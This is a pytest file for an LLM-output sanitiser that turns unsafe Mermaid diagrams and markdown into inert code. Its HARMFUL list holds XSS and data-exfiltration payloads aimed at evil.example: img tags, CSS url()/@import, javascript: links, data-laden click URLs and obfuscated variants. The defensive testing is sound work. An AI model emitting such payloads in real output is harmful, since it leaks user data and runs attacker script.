"""Diagrams in fences: one that would load or run something is shown as code (THREATS O.1, O.2)."""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import json

import pytest
from exchanges import World, answer

import safellm
from safellm._core.answer import may_change
from safellm._core.neutral.diagrams import LONGEST
from safellm._core.neutral.links import LinkFilter
from safellm._core.policy import Policy

JUDGE = Policy().judge()
assert JUDGE is not None
U = "https://evil.example/x"
HARMFUL = (
    f"graph TD\nA[<img src='{U}'>]",
    f'graph TD\nA["<img\nsrc={U}>"]',
    f"graph TD\nA[\"&lt;img src='{U}'&gt;\"]",
    'graph TD\nA["<b title=\'"] --> B[x]\nC["\' onclick=alert(1)>"]',
    f'graph TD\nA@{{ img: "{U}", w: 60 }}',
    'graph TD\nA@{ img: "https:/evil.example/x" }',
    'graph TD\nA@{ img: "\\x68ttps://evil.example/x" }',
    f'graph TD\nA@{{ x: &a "{U}", img: *a }}',
    f'%%{{init: {{"themeCSS": ".node{{background:url({U})}}"}}}}%%\ngraph TD\nA',
    '%%{init: {"\\u0074hemeCSS": "x"}}%%\ngraph TD\nA',
    f"---\nconfig:\n  themeCSS: '@import \"{U}\"'\n---\ngraph TD\nA",
    f"graph TD\nA:::c\nclassDef c background:url({U})",
    "graph TD\nA:::c\nclassDef c background:u\\72l(x)",
    'graph TD\nclick A "javascript:alert(1)"',
    "graph TD\nA; click A call alert(1)",
    "classDiagram\ncallback A alert",
    f'graph TD\nclick A "{U}?d={"QUJD" * 20}"',
    "graph TD\nA[$$\\includegraphics{https://evil.example/x}$$]",
    "<script>alert(1)</script>",
    "graph TD\n" + "A --> B\n" * (LONGEST // 8),
)
HARMLESS = (
    'graph TD\n  A[Start] --> B{Is it <b>ok</b>?}\n  B -->|yes| C[Done<br/>now]\n  click A "https://docs.example.com/x" "tip"',
    "sequenceDiagram\n  Alice->>+Bob: GET https://api.example.com/items?limit=10\n  Note right of Bob: data: cached",
    "classDiagram\n  class Animal {\n    <<interface>>\n    +List~String~ names\n  }\n  Animal <|-- Dog",
    "flowchart LR\n  style A fill:#f9f\n  DB[(postgres://db:5432)] --> S3[s3://bucket] --> JS[JavaScript: the language]",
    "%%{init: {'theme': 'forest', 'themeVariables': {'primaryColor': '#fff'}}}%%\ngraph LR\n A-->B",
    '---\ntitle: Hi\nconfig:\n  theme: base\n---\ngraph LR\n A@{ shape: rect, label: "x" }',
    "graph TD\nA[$$\\frac{a}{b}$$] --> B[C:\\new]",
)


def streamed(text: str, size: int) -> str:
    assert JUDGE is not None
    links = LinkFilter(judge=JUDGE)
    return "".join(links.feed(text[at : at + size]) for at in range(0, len(text), size)) + links.finish()


@pytest.mark.parametrize("diagram", HARMFUL)
@pytest.mark.parametrize("fence", ["```mermaid\n{}\n```\nafter", "text\n\n~~~~ Mermaid\n{}\n~~~~", "- ```mermaid\n{}"])
def test_o_2_a_diagram_that_would_load_or_run_something_is_no_diagram(fence: str, diagram: str) -> None:
    """Its language's name is broken, and nothing else where it is code; whole or in pieces."""
    text = fence.format(diagram)
    safe = safellm.neutralise(text)
    assert "ermaid" not in safe.partition("\n" + diagram[:4])[0]
    assert "er-maid" in safe
    for size in (1, 3, 50):
        assert streamed(text, size) == safe
    if not fence.startswith(("-", "text")):
        assert safe == text.replace("mermaid", "mer-maid", 1)


@pytest.mark.parametrize("diagram", HARMLESS)
def test_ordinary_diagrams_stay(diagram: str) -> None:
    """Links, line breaks, plain tags, themes and mathematics are drawn."""
    text = f"Look:\n\n```mermaid\n{diagram}\n```\n\n```html\n<b onclick=x>\n```\n"
    assert safellm.neutralise(text) == text
    assert streamed(text, 1) == streamed(text, 7) == text


def test_a_quoted_diagram_is_read_without_its_marks() -> None:
    """In a block quote a tag may go on behind the next line's mark."""
    assert "mer-maid" in safellm.neutralise("> ```mermaid\n> graph TD\n> A[<img\n> src=https://evil.example/x>]\n> ```")


def test_a_fence_that_names_no_diagram_flows() -> None:
    """Only what may become the word is held back."""
    assert JUDGE is not None
    links = LinkFilter(judge=JUDGE)
    assert [links.feed(piece) for piece in ("```", "me", "ta\n", "x\n")] == ["```", "", "meta\n", "x\n"]


def test_o_2_names_of_files_are_shown_too() -> None:
    """Who names a file writes into the list of sources."""
    name = "![a](https://evil.example/x).pdf"
    note = {"type": "file_citation", "file_id": "f", "filename": name, "index": 0}
    content = [{"type": "output_text", "text": "x", "annotations": [note, {**note, "filename": "a [1] (b).pdf"}]}]
    body = {
        "id": "r",
        "object": "response",
        "status": "completed",
        "output": [{"type": "message", "id": "m", "content": content}],
    }
    exchange, _ = World().begin({"model": "m", "input": "hi"}, "/v1/responses")
    got = json.loads(answer(exchange, [json.dumps(body).encode()]))["output"][0]["content"][0]["annotations"]
    assert [one["filename"] for one in got] == ["! [a] (https://evil.example/x).pdf", "a [1] (b).pdf"]


@pytest.mark.parametrize("diagram", HARMFUL)
def test_o_2_a_diagram_is_seen_in_the_bytes_of_an_answer(diagram: str) -> None:
    """The quick look at a whole answer, or at an event, passes none by; its text needs no sign but the language's name."""
    for name in ("mermaid", "Mermaid", "MERMAID"):
        assert may_change(json.dumps({"text": f"```{name}\n{diagram}\n```"}).encode())
    assert not may_change(json.dumps({"text": "```python\nprint(1)\n```"}).encode())
